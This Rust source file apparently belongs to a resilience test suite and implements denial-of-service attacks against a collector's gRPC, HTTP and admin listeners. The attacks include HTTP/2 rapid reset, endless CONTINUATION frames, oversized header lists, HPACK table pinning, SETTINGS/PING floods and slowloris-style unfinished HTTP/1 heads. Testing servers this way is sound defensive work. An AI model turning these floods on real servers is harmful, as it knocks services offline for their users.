//! The attacks. Each returns the connections it leaves open.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use crate::hostile::Held;
use crate::hostile::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES, HEADERS, PING, RESET, SETTINGS,
    call, connect, frame, ids, indexed, literal, open_literal, repeated,
};
use crate::hostile::process::Collector;

/// Connections of an attack that many streams are opened on.
const CONNECTIONS: usize = 40;

/// Streams on each: what the limits allow at once.
const STREAMS: u32 = 100;

/// How long a write may wait for a server that doesn't read.
const WRITE_TIME: Duration = Duration::from_millis(200);

/// How long an answer may take on a busy machine.
const ANSWER_TIME: Duration = Duration::from_secs(20);

/// The same bytes on so many HTTP/2 connections of the gRPC listener, sent to all at once.
fn on_each_connection(collector: &Collector, connections: usize, bytes: &[u8]) -> Held {
    let streams: Vec<_> = (0..connections).filter_map(|_| connect(&collector.grpc)).collect();
    std::thread::scope(|scope| {
        for mut stream in &streams {
            // A server that hangs up is what is hoped for, and one that doesn't read is left alone.
            scope.spawn(move || stream.write_all(bytes));
        }
    });
    streams
}

/// A frame for each stream, made of what the block is for its id.
fn frames(flags: u8, block: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    ids(STREAMS).flat_map(|id| frame(HEADERS, flags, id, &block(id))).collect()
}

/// Requests that never end, each with a list of so many headers that take a byte each.
fn unfinished_requests(collector: &Collector, headers: usize) -> Held {
    let block = |id| {
        let first = if id == 1 { indexed(b"a", b"b") } else { repeated(1) };
        [call(), first, repeated(headers - 1)].concat()
    };
    on_each_connection(collector, CONNECTIONS, &frames(END_HEADERS, block))
}

/// Header lists of 15 kB, which are too long, and of a few hundred bytes on the wire.
pub(crate) fn lists_too_long(collector: &mut Collector) -> Held {
    unfinished_requests(collector, 440)
}

/// The longest lists that are taken.
pub(crate) fn longest_lists(collector: &mut Collector) -> Held {
    unfinished_requests(collector, 220)
}

/// As many lists as can be sent, each too long; the answers aren't read.
pub(crate) fn lists_too_long_without_end(collector: &mut Collector) -> Held {
    let first = frame(HEADERS, END_HEADERS, 1, &[call(), indexed(b"a", b"b")].concat());
    let block = [call(), repeated(440)].concat();
    let rest = ids(5000).skip(1).flat_map(|id| frame(HEADERS, END_HEADERS, id, &block));
    let flood: Vec<u8> = first.into_iter().chain(rest).collect();
    on_each_connection(collector, CONNECTIONS, &flood)
}

/// Trailers as long as the longest list behind a body of one byte.
pub(crate) fn long_trailers(collector: &mut Collector) -> Held {
    let requests = ids(STREAMS).flat_map(|id| {
        let first = if id == 1 { indexed(b"a", b"b") } else { repeated(1) };
        [
            frame(HEADERS, END_HEADERS, id, &call()),
            frame(DATA, 0, id, &[0]),
            frame(HEADERS, END_HEADERS | END_STREAM, id, &[first, repeated(219)].concat()),
        ]
        .concat()
    });
    let flood: Vec<u8> = requests.collect();
    on_each_connection(collector, CONNECTIONS, &flood)
}

/// Header blocks that go on and on.
pub(crate) fn endless_continuations(collector: &mut Collector) -> Held {
    let begin = frame(HEADERS, 0, 1, &[call(), open_literal()].concat());
    let more = frame(CONTINUATION, 0, 1, &[b'v'; FRAME_BYTES]);
    on_each_connection(collector, 60, &[begin, more.repeat(5)].concat())
}

/// A header table full of paths, each of them read from a frame of its own: the library copies
/// other headers.
pub(crate) fn pinned_header_table(collector: &mut Collector) -> Held {
    let requests = ids(130).flat_map(|id| {
        // POST and http from the static table, and a path that goes into the dynamic one.
        let block = [vec![0x83, 0x86, 0x44, 1, b'/'], literal(b"l", 7_000)].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, id, &block)
    });
    let flood: Vec<u8> = requests.collect();
    on_each_connection(collector, 30, &flood)
}

/// Streams opened and reset in a loop.
pub(crate) fn rapid_resets(collector: &mut Collector) -> Held {
    let pairs = ids(20_000).flat_map(|id| {
        let reset = frame(RESET, 0, id, &8_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, id, &call()), reset].concat()
    });
    let flood: Vec<u8> = pairs.collect();
    on_each_connection(collector, CONNECTIONS, &flood)
}

/// Settings and pings that must be answered, by the megabyte; the answers aren't read.
pub(crate) fn settings_and_pings(collector: &mut Collector) -> Held {
    // The size of the table that the server may use, and a ping.
    let settings = frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]);
    let both = [settings, frame(PING, 0, 0, &[7; 8])].concat();
    on_each_connection(collector, CONNECTIONS, &both.repeat(100_000))
}

/// Acknowledgements of settings that were never sent.
pub(crate) fn acknowledgements(collector: &mut Collector) -> Held {
    let flood = frame(SETTINGS, ACK, 0, &[]).repeat(100_000);
    on_each_connection(collector, CONNECTIONS, &flood)
}

/// Bodies in frames of one byte.
pub(crate) fn tiny_frames(collector: &mut Collector) -> Held {
    let begin = frame(HEADERS, END_HEADERS, 1, &call());
    let flood = [begin, frame(DATA, 0, 1, &[0]).repeat(300_000)].concat();
    on_each_connection(collector, CONNECTIONS, &flood)
}

/// Requests whose bodies begin with a byte and then stand still.
pub(crate) fn dripping_bodies(collector: &mut Collector) -> Held {
    let begun = |id| [frame(HEADERS, END_HEADERS, id, &call()), frame(DATA, 0, id, &[0])].concat();
    let flood: Vec<u8> = ids(STREAMS).flat_map(begun).collect();
    on_each_connection(collector, CONNECTIONS, &flood)
}

/// Bodies without an end on all streams, as much as the server lets in.
pub(crate) fn bodies_without_end(collector: &mut Collector) -> Held {
    let begun = |id| frame(HEADERS, END_HEADERS, id, &call());
    // The message is said to have 4 MB.
    let prefix = |id| frame(DATA, 0, id, &[0, 0, 0x40, 0, 0]);
    let heads = ids(STREAMS).flat_map(|id| [begun(id), prefix(id)].concat());
    // What a connection's window holds, spread over its streams.
    let bodies = ids(STREAMS).flat_map(|id| frame(DATA, 0, id, &[1; 10_000]));
    let flood: Vec<u8> = heads.chain(bodies).collect();
    on_each_connection(collector, CONNECTIONS, &flood)
}

/// Connections that each had a request answered, and are idle since.
pub(crate) fn idle_connections(collector: &mut Collector) -> Held {
    // A message that the head's flag says nothing of: refused as malformed, by an answer.
    let request = [
        frame(HEADERS, END_HEADERS, 1, &call()),
        frame(DATA, END_STREAM, 1, &[0, 0, 0, 0, 1, 0xff]),
    ]
    .concat();
    let connect = |_| {
        let mut stream = connect(&collector.grpc)?;
        stream.set_read_timeout(Some(ANSWER_TIME)).ok()?;
        stream.write_all(&request).ok()?;
        // The settings, their acknowledgement, and the answer's head, whose flags end the stream.
        let mut seen = Vec::new();
        while !ends_a_stream(&seen) {
            let mut bytes = [0; 1024];
            let read = stream.read(&mut bytes).ok().filter(|read| *read > 0)?;
            seen.extend_from_slice(bytes.get(..read)?);
        }
        Some(stream)
    };
    (0..450).filter_map(connect).collect()
}

/// Whether a head among the frames that came ends its stream.
fn ends_a_stream(mut bytes: &[u8]) -> bool {
    while let Some((head, rest)) = bytes.split_at_checked(9) {
        if head[3] == HEADERS && head[4] & END_STREAM != 0 {
            return true;
        }
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        bytes = rest.get(length..).unwrap_or_default();
    }
    false
}

/// Whether the server has not closed a connection.
pub(crate) fn is_open(stream: &TcpStream) -> bool {
    stream.set_nonblocking(true).unwrap();
    let mut bytes = [0; 1024];
    loop {
        match (&*stream).read(&mut bytes) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == std::io::ErrorKind::WouldBlock,
        }
    }
}

/// Connections that say nothing, on both listeners.
pub(crate) fn silent_connections(collector: &mut Collector) -> Held {
    let listeners = [&collector.grpc, &collector.http];
    let connect = |index: usize| TcpStream::connect(listeners[index % 2]).ok();
    (0..1000).filter_map(connect).collect()
}

/// Heads over HTTP/1 that are nearly as long as they may be, and never end.
pub(crate) fn long_heads(collector: &mut Collector) -> Held {
    unfinished_heads(&collector.http, 500)
}

/// The same where probes and metrics are served.
pub(crate) fn long_heads_at_the_admin_port(collector: &mut Collector) -> Held {
    unfinished_heads(&collector.admin, 500)
}

fn unfinished_heads(address: &str, connections: usize) -> Held {
    let head = format!("GET /metrics HTTP/1.1\r\nhost: x\r\nslow: {}", "y".repeat(7_500));
    on_plain_connections(address, connections, head.as_bytes())
}

/// Requests one behind the other, whose answers aren't read.
pub(crate) fn unread_answers(collector: &mut Collector) -> Held {
    let flood = "GET /x HTTP/1.1\r\nhost: x\r\n\r\n".repeat(20_000);
    on_plain_connections(&collector.http, 100, flood.as_bytes())
}

/// The same where probes and metrics are served.
pub(crate) fn unread_metrics(collector: &mut Collector) -> Held {
    let flood = "GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n".repeat(5_000);
    on_plain_connections(&collector.admin, 100, flood.as_bytes())
}

fn on_plain_connections(address: &str, connections: usize, bytes: &[u8]) -> Held {
    let connect = |_| {
        let stream = TcpStream::connect(address).ok()?;
        stream.set_write_timeout(Some(WRITE_TIME)).ok()?;
        Some(stream)
    };
    let streams: Vec<_> = (0..connections).filter_map(connect).collect();
    std::thread::scope(|scope| {
        for part in streams.chunks(20) {
            scope.spawn(move || {
                for mut stream in part {
                    let _ = stream.write_all(bytes);
                }
            });
        }
    });
    streams
}
